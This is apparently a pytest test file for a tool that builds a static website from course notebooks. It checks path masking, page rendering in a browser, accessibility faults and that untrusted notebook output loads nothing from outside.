    assert broken_links(out) == []


def test_stale_section_is_said(home, tmp_path):
    record = json.loads(text(home / "exports" / "results.json"))
    record["theme1"]["inputs"] = {"course.json": "0" * 16}
    utils.write_json(home / "exports" / "results.json", record)
    site.build([home], tmp_path / "site")
    page = soup_of(tmp_path / "site" / "pneumonia" / "theme1_data_analysis.html")
    assert (
        "theme1 is stale: course.json has changed"
        in page.select_one("aside.run").get_text()
    )


def test_without_nbconvert_the_way_out_is_named(homes, tmp_path, monkeypatch, capsys):
    monkeypatch.setitem(__import__("sys").modules, "nbconvert", None)
    assert site.main(["--home", str(homes[0]), "--out", str(tmp_path / "site")]) == 2
    assert "needs nbconvert: run `make site`" in capsys.readouterr().out


def test_command_is_reached_from_the_command_line(homes, tmp_path, capsys):
    assert (
        course.main(["site", "--home", str(homes[0]), "--out", str(tmp_path / "site")])
        == 0
    )
    assert "index.html" in capsys.readouterr().out


@pytest.mark.parametrize(
    "text_, expected",
    [
        ("/home/ada/x and C:\\Users\\ada\\x and /Users/ada", "~/x and ~\\x and ~"),
        (
            "https://host/home/ada /srv/kit2/a /srv/kit/a",
            "https://host/home/ada /srv/kit2/a …/kit/a",
        ),
        ("/var/home/ada/x //home/ada/x /mnt/c/Users/ada/x /root/x", "~/x /~/x ~/x ~/x"),
        (
            "file:///home/ada/x file:///C:/Users/ada/x c:/users/ada",
            "file://~/x file:///~/x ~",
        ),
        (r"\\wsl$\Ubuntu\home\ada\x \\server\Users\ada", r"~\x ~"),
        (
            "\x1b[32m/home/ada/x\x1b[39m '/home/ada\x1b[0m'",
            "\x1b[32m~/x\x1b[39m '~\x1b[0m'",
        ),
        (r"'read\n/home/ada/x'", r"'read\n~/x'"),
        (
            "./home/ada /srv/kit/home/ada /roots s3://data/home/ada",
            "./home/ada …/kit/home/ada /roots s3://data/home/ada",
        ),
        ("/tmp/ipykernel_12/345.py:3: UserWarning", "(a cell):3: UserWarning"),
        ("password = 'your-password-1234567'", "password = 'your-password-1234567'"),
    ],
)
def test_private(text_, expected):
    assert site.pages.private(text_, {"/srv/kit": "…/kit"}, []) == expected


def test_names_of_users_are_masked_in_a_coloured_traceback_of_ipython(home, tmp_path):
    import inspect
    import linecache
    import sys
    import textwrap
    import types

    from IPython.core.ultratb import FormattedTB

    path = "/home/ada/.local/lib/python3.11/site-packages/lungs.py"

    def breathe(x):
        return 1 / x, "/home/ada/x-rays"

    source = textwrap.dedent(inspect.getsource(breathe))
    # IPython shows its lines
    linecache.cache[path] = (len(source), None, source.splitlines(keepends=True), path)
    code = breathe.__code__.replace(co_filename=path, co_firstlineno=1)
    try:
        types.FunctionType(code, {})(0)
    except ZeroDivisionError:
        trace = FormattedTB("Context", theme_name="linux").structured_traceback(
            *sys.exc_info()
        )
    assert "\x1b[32m/home/ada/" in "".join(trace)

    def change(notebook):
        notebook.cells[5].outputs = [
            new_output("error", ename="ZeroDivisionError", evalue="", traceback=trace)
        ]

    break_theme(home, 2, change)
    site.main(["--home", str(home), "--out", str(tmp_path / "site")])
    page = soup_of(tmp_path / "site" / "pneumonia" / "theme2_baseline_model.html")
    told = page.find(id="stopped").details.get_text()
    assert (
        "File ~/.local/lib/python3.11/site-packages/lungs.py:2" in told
        and '"~/x-rays"' in told
    )
    assert "ada" not in str(page)


@pytest.mark.parametrize(
    "value, expected",
    [(True, "yes"), (3, "3"), (0.00012, "1.2 · 10⁻⁴"), ("CPU", "CPU")],
)
def test_values_for_people(value, expected):
    assert site.shown(value) == expected


def test_notebooks_hold_no_formula(homes):
    """The site typesets none. A formula needs MathML, which every browser reads, before
    this test may go.
    """
    for path in run.notebooks(1, 8).values():
        for cell in nbformat.read(path, as_version=4).cells:
            assert cell.cell_type != "markdown" or not re.search(
                r"(?<!\\)\$|\\\(|\\\[|\\begin\{", cell.source
            ), path


# --------------------------------------------------------------------------------------
# In a browser
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", SIZES)
def test_pages_in_a_browser(built, browse, size, scheme):
    for address in (
        "index.html",
        "pneumonia/theme1_data_analysis.html",
        "solar/theme8_synthesis.html",
        "docs/readme.html",
        "pneumonia/model_card.html",
    ):
        page = browse((built / address).as_uri(), *SIZES[size], color_scheme=scheme)
        dark = (
            page.evaluate("getComputedStyle(document.body).backgroundColor")
            != "rgb(255, 255, 255)"
        )
        assert dark == (scheme == "dark")
        assert look(page) == [], address


def test_browser_sees_what_is_wrong(tmp_path, browse):
    """The faults that `look` exists for, one each: a check that finds nothing proves
    little.
    """
    bad = tmp_path / "bad.html"
    bad.write_text(
        '<body style="background: white"><p style="color: #999">pale</p><img'
        ' src="no.png" alt="x"><img src="data:,"><p style="width:'
        ' 2000px">wide<script>console.error("oh")</script>'
    )
    found = " | ".join(look(browse(bad.as_uri())))
    for words in (
        "P. 2.8",
        "no picture: file:",
        "a picture without a text",
        "it scrolls sideways",
        "oh",
        "failed: ",
    ):
        assert words in found, words


def test_outputs_that_try_everything_stay_where_they_are_and_ask_nobody(
    home, tmp_path, browse
):
    def change(notebook):
        tries = [
            result(kind, html)
            for html in OUTSIDE.values()
            for kind in ("html", "markdown")
        ]
        notebook.cells[5].outputs = tries
        notebook.cells.insert(6, new_markdown_cell("\n\n".join(OUTSIDE.values())))

    change_theme(home, 1, change)
    assert site.main(["--home", str(home), "--out", str(tmp_path / "site")]) == 0
    address = (tmp_path / "site" / "pneumonia" / "theme1_data_analysis.html").as_uri()
    page = browse(address)
    page.evaluate(
        "for (const fold of document.querySelectorAll('details')) fold.open = true"
    )
    page.wait_for_timeout(500)
    asked = page.evaluate(
        "performance.getEntriesByType('resource').map((entry) => entry.name)"
    )
    assert page.url == address and page.problems == [] and "evil" not in " ".join(asked)
    assert (
        page.evaluate("document.baseURI") == address
        and page.locator("h2", has_text="Checkpoint").is_visible()
    )


def test_toggle_changes_the_colours_and_is_remembered_on_every_page(built, browse):
    page = browse((built / "index.html").as_uri(), color_scheme="light")
    colour = "getComputedStyle(document.body).backgroundColor"
    assert page.evaluate(colour) == "rgb(255, 255, 255)"
    page.get_by_role("button", name="Dark colours").click()
    dark = page.evaluate(colour)
    assert dark != "rgb(255, 255, 255)"
    page.goto((built / "solar" / "theme5_monitoring.html").as_uri())
    assert page.evaluate(colour) == dark
    assert (
        page.get_by_role("button", name="Dark colours").get_attribute("aria-pressed")
        == "true"
    )
    page.reload()
    page.get_by_role("button", name="Dark colours").press("Enter")
    assert page.evaluate(colour) == "rgb(255, 255, 255)" and page.problems == []


def test_contents_stay_in_sight_on_a_desktop_and_are_folded_on_a_phone(built, browse):
    address = (built / "pneumonia" / "theme1_data_analysis.html").as_uri()
    page = browse(address)
    link = page.locator("details.contents a").last
    page.evaluate("scrollTo(0, 1500)")
    assert link.is_visible() and 0 <= link.bounding_box()["y"] < 900
    link.click()
    top = page.locator("#checkpoint").bounding_box()["y"]
    assert page.url.endswith("#checkpoint") and 0 <= top < 900
    phone = browse(address, *SIZES["phone"])
    assert not phone.locator("details.contents a").last.is_visible()
    phone.get_by_text("On this page").click()
    assert phone.locator("details.contents a").last.is_visible()


def test_picture_opens_in_full_size_and_fits_a_phone(built, browse):
    page = browse(
        (built / "pneumonia" / "theme1_data_analysis.html").as_uri(), *SIZES["phone"]
    )
    assert page.locator("figure img").first.bounding_box()["width"] <= 390
    page.locator("figure a").first.click()
    page.wait_for_url("**/theme1_examples.png")
    assert page.evaluate("document.images[0].naturalWidth") == 1300


def test_from_a_subfolder_of_a_server_as_on_github_pages(built, browse):
    import functools
    import http.server
    import threading

    quiet = type(
        "Quiet",
        (http.server.SimpleHTTPRequestHandler,),
        {"log_message": lambda *arguments: None},
    )
    with http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(quiet, directory=built.parent)
    ) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page = browse(f"http://127.0.0.1:{server.server_port}/my%20site/index.html")
        page.get_by_role("link", name="Start with theme 1").first.click()
        page.get_by_role("link", name="Theme 2 →").first.click()
        page.get_by_role("link", name="Roofs (drawn)").click()
        assert (
            page.url.endswith("/my%20site/solar/theme2_baseline_model.html")
            and look(page) == []
        )
        server.shutdown()


def test_without_scripts_everything_can_be_read(built, browse):
    page = browse(
        (built / "pneumonia" / "theme1_data_analysis.html").as_uri(),
        java_script_enabled=False,
    )
    assert (
        page.locator("article").is_visible()
        and page.locator("figure img").first.is_visible()
    )
    page.get_by_text("On this page").click()
    assert page.locator("details.contents a").first.is_visible()


@pytest.mark.slow
def test_site_of_a_real_run(tmp_path, browse, monkeypatch):
    """The whole course on the smoke profile, then every page at both widths in both
    colours.
    """
    # of the tests: with it, notebooks would show no figure
    monkeypatch.delenv("MPLBACKEND")
    homes = [tmp_path / "xrays", tmp_path / "roofs"]
    for home, dataset in zip(homes, ("pneumonia", "solar"), strict=True):
        options = [
            "--source",
            "sample",
            "--dataset",
            dataset,
            "--profile",
            "smoke",
            "--home",
            str(home),
        ]
        # the rest is not run, and must be told
        last = "8" if dataset == "pneumonia" else "1"
        assert run.main([*options, "--until", last]) == 0
    out = tmp_path / "site"
    assert site.main(["--home", *map(str, homes), "--out", str(out)]) == 1
    assert broken_links(out) == []
    for path in pages_of(out):
        content = text(path)
        assert (
            str(tmp_path) not in content
            and str(site.KIT) not in content
            and "Traceback" not in content
        ), path
        for size in SIZES.values():
            for scheme in ("light", "dark"):
                page = browse(path.as_uri(), *size, color_scheme=scheme)
                assert look(page) == [], (path, size, scheme)
                page.context.close()
    captions = sum(
        len(soup_of(page).find_all("figcaption"))
        for page in (out / "pneumonia").glob("theme*.html")
    )
    assert captions >= 30
